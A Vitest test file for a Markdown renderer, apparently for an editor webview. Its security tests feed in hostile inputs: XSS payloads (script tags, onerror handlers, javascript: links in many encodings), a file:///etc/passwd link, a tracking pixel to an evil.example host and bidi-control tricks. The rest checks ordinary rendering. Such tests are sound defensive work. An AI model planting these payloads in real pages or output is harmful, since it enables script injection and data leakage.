import { describe, expect, it } from 'vitest';
import { type RenderEnv, renderMarkdown } from './renderMarkdown';

/** Parses the output like the webview will (innerHTML) so assertions are about the DOM, not string shapes. */
function toDom(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

/** Everything in the output that could run script, load a resource or navigate somewhere unsafe. */
function activeHtml(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of container.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'img', 'object', 'embed', 'style', 'link', 'meta', 'form', 'svg', 'base'].includes(tag)) {
      found.push(`<${tag}>`);
    }
    for (const attr of el.getAttributeNames()) {
      if (attr.startsWith('on') || attr === 'style' || attr === 'src' || attr === 'srcdoc')
        found.push(`${tag}[${attr}]`);
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^(https?|mailto):/i.test(href)) found.push(`${tag}[href=${href}]`);
  }
  return found;
}

describe('renderMarkdown security', () => {
  const hostile: [name: string, markdown: string][] = [
    ['script tag', '<script>alert(1)</script>'],
    ['inline script between text', 'hello <script src="https://evil.example/x.js"></script> world'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['svg onload', '<svg onload=alert(1)>'],
    ['html block', '<div onclick="alert(1)">\n\n*md*\n\n</div>'],
    ['raw anchor with javascript:', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: link', '[click](javascript:alert(1))'],
    ['mixed-case scheme', '[click](JaVaScRiPt:alert(1))'],
    ['scheme with leading spaces', '[click](   javascript:alert(1))'],
    ['scheme split by a newline', '[click](java\nscript:alert(1))'],
    ['scheme split by a tab entity', '[click](java&#9;script:alert(1))'],
    ['entity-encoded scheme', '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))'],
    ['hex-entity colon', '[click](javascript&#x3A;alert(1))'],
    ['named-entity colon', '[click](javascript&colon;alert(1))'],
    ['percent-encoded scheme', '[click](%6Aavascript:alert(1))'],
    ['angle-bracket destination', '[click](<javascript:alert(1)>)'],
    ['autolink', '<javascript:alert(1)>'],
    ['reference link', '[click][r]\n\n[r]: javascript:alert(1)'],
    ['vbscript', '[click](vbscript:msgbox(1))'],
    ['file', '[click](file:///etc/passwd)'],
    ['data: html', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['data: image (allowed by markdown-it for images)', '[click](data:image/png;base64,iVBORw0KGgo=)'],
    ['image with data:', '![x](data:image/png;base64,iVBORw0KGgo=)'],
    ['remote image (no network calls from model text)', '![tracker](https://evil.example/pixel.png?secret=1)'],
    ['command uri', '[click](command:workbench.action.terminal.new)'],
    ['link title breakout', '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'],
    ['code fence info breakout', '```"><img src=x onerror=alert(1)>\ncode\n```'],
    ['html inside a table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ];

  it.each(hostile)('%s produces no active HTML', (_name, markdown) => {
    expect(activeHtml(toDom(markdown))).toEqual([]);
  });

  it('keeps hostile raw HTML visible as text', () => {
    const dom = toDom('<script>alert(1)</script>');
    expect(dom.textContent).toContain('<script>alert(1)</script>');
  });
});

describe('bidirectional control characters', () => {
  it.each([
    ['in prose', 'access \u202egranted\u202c', 'access [U+202E]granted[U+202C]'],
    ['in inline code', '`if (isAdmin \u2066) {`', '<code>if (isAdmin [U+2066]) {</code>'],
    [
      'in a code block',
      '```js\n/* \u202e } \u2066if (ok)\u2069 \u2066 */\n```',
      '[U+202E] } [U+2066]if (ok)[U+2069] [U+2066] */',
    ],
    ['in a link title', '[x](https://a.example "t\u202et")', 'title="t[U+202E]t"'],
  ])('are shown, never act, %s', (_where, source, shown) => {
    const html = renderMarkdown(source);
    expect(html).toContain(shown);
    expect(html).not.toMatch(/[\u061c\u202a-\u202e\u2066-\u2069]/);
  });

  it('left-to-right and right-to-left marks are left alone', () => {
    expect(renderMarkdown('a\u200eb\u200fc')).toContain('a\u200eb\u200fc');
  });
});

describe('renderMarkdown rendering', () => {
  it('renders headings, emphasis and lists', () => {
    const dom = toDom('# Title\n\n## Sub\n\nsome **bold** and _it_\n\n- one\n- two\n\n1. first\n2. second');
    expect(dom.querySelector('h1')?.textContent).toBe('Title');
    expect(dom.querySelector('h2')?.textContent).toBe('Sub');
    expect(dom.querySelector('strong')?.textContent).toBe('bold');
    expect(dom.querySelector('em')?.textContent).toBe('it');
    expect([...dom.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect([...dom.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual(['first', 'second']);
  });

  it('renders a fenced code block escaped, with its language class and a copy button', () => {
    const dom = toDom('```ts\nconst a: Array<string> = ["<b>"];\n```');
    const code = dom.querySelector('.code-block pre > code');
    expect(code?.className).toBe('language-ts');
    expect(code?.textContent).toBe('const a: Array<string> = ["<b>"];\n');
    expect(dom.querySelector('b')).toBeNull();
    // It scrolls sideways, so the keyboard must reach it.
    expect(dom.querySelector('.code-block > pre')?.getAttribute('tabindex')).toBe('0');
    const toolbar = dom.querySelector('.code-block > .code-toolbar');
    expect(toolbar?.getAttribute('role')).toBe('toolbar');
    expect(toolbar?.querySelector('.code-language')?.textContent).toBe('ts');
    const buttons = [...(toolbar?.querySelectorAll('button') ?? [])];
    expect(buttons.map((b) => [b.dataset.action, b.getAttribute('type'), b.tabIndex])).toEqual([
      ['copy-code', 'button', 0],
      ['insert-code', 'button', -1],
      ['new-file-code', 'button', -1],
    ]);
  });

  it('gives a change block (a diff, a block naming its file) Review change and Apply change, and no other block', () => {
    const actions = (markdown: string, env?: RenderEnv) => {
      const container = document.createElement('div');
      container.innerHTML = renderMarkdown(markdown, env);
      return [...container.querySelectorAll('.code-toolbar button')].map(
        (b) => b.getAttribute('aria-label') ?? b.textContent,
      );
    };
    const diff = '--- a/x.ts\n+++ b/x.ts\n@@ -1 +1 @@\n-a\n+b\n';
    expect(actions(`\`\`\`diff\n${diff}\`\`\``)).toEqual([
      'Copy',
      'Insert at Cursor',
      'Open in New File',
      'Review change',
      'Apply change',
    ]);
    expect(actions(`\`\`\`patch\n${diff}\`\`\``)).toContain('Apply change');
    expect(actions(`\`\`\`ts\n${diff}\`\`\``)).not.toContain('Apply change');
    expect(actions('```ts title="x.ts"\nb\n```')).toContain('Apply change');
    expect(actions('```ts\n// src/x.ts\nb\n```')).toContain('Review change');
    expect(actions('```ts\n// retry twice\nb\n```')).not.toContain('Review change');
    // What the rest of the thread allows: Compare on a block changing a compared file only, Ask the table.
    const compare = { compare: new Set(['x.ts']), ask: true };
    expect(actions(`\`\`\`diff\n${diff}\`\`\``, compare).slice(3)).toEqual([
      'Review change',
      'Apply change',
      'Compare proposals',
      'Ask the table to review this change',
    ]);
    expect(actions('```ts src/y.ts\nb\n```', compare)).not.toContain('Compare proposals');
    expect(actions('```ts\nplain\n```', compare)).not.toContain('Ask the table to review this change');
  });

  it('keeps a change block’s whole info string for the host, escaped; an ordinary block has none', () => {
    const dom = toDom('```ts title="src/a.ts" x="<i>"\nb\n```\n\n```ts\nplain\n```');
    const [named, plain] = dom.querySelectorAll('.code-block');
    expect(named?.getAttribute('data-info')).toBe('ts title="src/a.ts" x="<i>"');
    expect(named?.querySelector('i')).toBeNull();
    expect(plain?.hasAttribute('data-info')).toBe(false);
    // The file it holds whole is shown where the language is.
    expect(named?.querySelector('.code-language')?.textContent).toBe('src/a.ts');
    expect(plain?.querySelector('.code-language')?.textContent).toBe('ts');
    // Named by its first word, the block is in the language before the path, or the path's.
    const language = (markdown: string) => toDom(markdown).querySelector('.code-block')?.getAttribute('data-language');
    expect(language('```ts:src/a.ts\nb\n```')).toBe('ts');
    expect(language('```src/a.py\nb\n```')).toBe('py');
    expect(language('```ts src/a.ts\nb\n```')).toBe('ts');
  });

  it('says whether a block naming its file holds all of it, or a part that leaves code out', () => {
    const title = (markdown: string) => toDom(markdown).querySelector('.code-language')?.getAttribute('title');
    expect(title('```ts\n// src/a.ts\nwhole();\n```')).toBe('The whole of src/a.ts');
    expect(title('```ts\n// src/a.ts\nchanged();\n// ... rest unchanged\n```')).toBe(
      'A part of src/a.ts: it leaves code out',
    );
  });

  it('escapes a hostile fence tag in the label and the data attribute', () => {
    const dom = toDom('```"><img src=x onerror=alert(1)>\ncode\n```');
    expect(dom.querySelector('img')).toBeNull();
    expect(dom.querySelector('.code-language')?.textContent).toBe('"><img');
    expect(dom.querySelector('.code-block')?.getAttribute('data-language')).toBe('"><img');
  });

  it('renders inline code escaped', () => {
    const dom = toDom('use `<div>` here');
    expect(dom.querySelector('code')?.textContent).toBe('<div>');
  });

  it('renders links with rel="noopener noreferrer"', () => {
    const dom = toDom('[docs](https://example.com/docs "Docs") and mail [me](mailto:me@example.com)');
    const links = [...dom.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/docs', 'mailto:me@example.com']);
    expect(links.map((a) => a.getAttribute('rel'))).toEqual(['noopener noreferrer', 'noopener noreferrer']);
    expect(links[0]?.getAttribute('title')).toBe('Docs');
  });

  it('linkifies explicit URLs but not file names', () => {
    const dom = toDom('see https://example.com/a?b=1 and README.md or setup.py');
    const links = [...dom.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1']);
    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('renders tables', () => {
    const dom = toDom('| name | score |\n|---|---:|\n| a | 1 |\n| b | 2 |');
    expect([...dom.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual(['name', 'score']);
    expect([...dom.querySelectorAll('tbody tr')].map((tr) => tr.textContent?.replace(/\s+/g, ''))).toEqual([
      'a1',
      'b2',
    ]);
  });

  it('leaves typography alone (typographer off)', () => {
    expect(toDom('"quotes" -- and (c)').querySelector('p')?.textContent).toBe('"quotes" -- and (c)');
  });
});

describe('renderMarkdown tables and task lists', () => {
  it('puts a table in a focusable sideways scroller', () => {
    const dom = toDom('| Model | Answer |\n| --- | --- |\n| claude | yes |');
    const region = dom.querySelector('.table-scroll');
    expect(region?.getAttribute('role')).toBe('region');
    expect(region?.getAttribute('tabindex')).toBe('0');
    expect(region?.querySelector(':scope > table th')?.textContent).toBe('Model');
  });

  it('shows task list items as disabled checkboxes, ticked when done, and leaves other brackets alone', () => {
    const dom = toDom('- [ ] write tests\n- [x] ship it\n- [link] not a task\n\n[ ] not in a list');
    const items = [...dom.querySelectorAll('li')];
    expect(items.map((li) => [li.className, li.textContent])).toEqual([
      ['task-list-item', ' write tests'],
      ['task-list-item', ' ship it'],
      ['', '[link] not a task'],
    ]);
    const boxes = [...dom.querySelectorAll<HTMLInputElement>('input[type="checkbox"]')];
    expect(boxes.map((b) => [b.disabled, b.checked])).toEqual([
      [true, false],
      [true, true],
    ]);
    expect(dom.querySelector('p')?.textContent).toBe('[ ] not in a list');
  });
});
